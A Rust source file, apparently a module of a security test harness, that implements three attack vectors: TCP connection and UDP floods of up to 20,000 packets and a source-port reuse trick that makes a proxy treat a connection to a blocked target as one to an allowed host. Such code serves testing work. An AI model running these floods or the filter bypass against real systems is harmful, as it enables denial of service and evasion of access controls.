//! Quantity: more connections than any table holds, and source ports used again before their entry is gone.

use std::io::{self, ErrorKind};
use std::net::{Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

use socket2::Socket;

use crate::Vector;
use crate::outcome::{Attempt, Done, Step, Stop};
use crate::target::{self, Target, tcp_for, udp_for};

/// Bound of a whole load, whatever `count=` says.
const LOAD_DEADLINE: Duration = Duration::from_secs(40);

pub(crate) const VECTORS: &[Vector] =
    &[("flood_connect", flood_connect), ("flood_udp", flood_udp), ("port_reuse", port_reuse)];

fn count(t: &Target, usual: usize) -> usize {
    t.extra("count").and_then(|count| count.parse().ok()).unwrap_or(usual)
}

/// Opens connections without waiting for any, up to 400 at a time, and drops the oldest: the origin table must
/// forget the right ones, or refuse.
fn flood_connect(t: &Target) -> Attempt {
    let started = Instant::now();
    let (mut open, mut begun, mut last) = (std::collections::VecDeque::new(), 0_usize, None);
    for turn in 0..count(t, 20_000) {
        if started.elapsed() > LOAD_DEADLINE {
            return Err(Stop::Silent("20,000 connects"));
        }
        let to = if turn % 2 == 0 { t.at4() } else { t.at6() };
        let socket = tcp_for(&to)?;
        socket.set_nonblocking(true).step("fcntl")?;
        match socket.connect(&to.into()) {
            Ok(()) => begun += 1,
            Err(error) if error.raw_os_error() == Some(libc::EINPROGRESS) => begun += 1,
            Err(error) => last = Some(error),
        }
        let _ = socket.send_with_flags(&t.payload(), libc::MSG_NOSIGNAL);
        open.push_back(socket);
        if open.len() > 400
            && let Some(oldest) = open.pop_front()
        {
            let _ = oldest.send_with_flags(&t.payload(), libc::MSG_NOSIGNAL);
            reset(&oldest);
        }
    }
    match (begun, last) {
        (0, Some(error)) => Err(error).step("connect"),
        _ => Ok(Done::Sent(format!("{begun} connects begun"))),
    }
}

fn flood_udp(t: &Target) -> Attempt {
    let (mut sent, mut last) = (0_usize, io::Error::from(ErrorKind::NotConnected));
    for _ in 0..count(t, 20_000) {
        match udp_for(&t.at4())?.send_to(&t.payload(), &t.at4().into()) {
            Ok(_) => sent += 1,
            Err(error) => last = error,
        }
    }
    if sent == 0 { Err(last).step("sendto") } else { Ok(Done::Sent(format!("{sent} datagrams"))) }
}

/// An RST instead of a FIN when dropped: the port is free at once.
fn reset(socket: &Socket) {
    let _ = socket.set_linger(Some(Duration::ZERO));
}

/// From one source port, again and again: to `first=` (allowed), reset, then at once to the target. A proxy that
/// looks the origin up by port takes the second connection for the first.
fn port_reuse(t: &Target) -> Attempt {
    let first: SocketAddr = t.need("first")?;
    let allowed = t.extra("allowed").unwrap_or("allowed.test");
    let (mut tries, mut last) = (0_usize, Err(Stop::Impossible("no port was free".to_owned())));
    for turn in 0..count(t, 500) {
        let port = 20_000 + u16::try_from(turn % 20_000).expect("below 20,000");
        let Ok(opener) = from_port(port, first) else {
            continue;
        };
        let head = format!("GET / HTTP/1.1\r\nHost: {allowed}\r\n");
        let _ = opener.send_with_flags(head.as_bytes(), libc::MSG_NOSIGNAL);
        reset(&opener);
        drop(opener);
        last = from_port(port, t.at4()).and_then(|socket| {
            target::send_all(&socket, &t.payload())?;
            reset(&socket);
            Ok(Done::Sent(String::new()))
        });
        tries += 1;
    }
    last.map(|_| Done::Sent(format!("{tries} ports used twice")))
}

fn from_port(port: u16, to: SocketAddr) -> Attempt<Socket> {
    let socket = tcp_for(&to)?;
    socket.set_reuse_address(true).step("setsockopt SO_REUSEADDR")?;
    socket.bind(&SocketAddr::from((Ipv4Addr::UNSPECIFIED, port)).into()).step("bind")?;
    socket.connect(&to.into()).step("connect")?;
    Ok(socket)
}
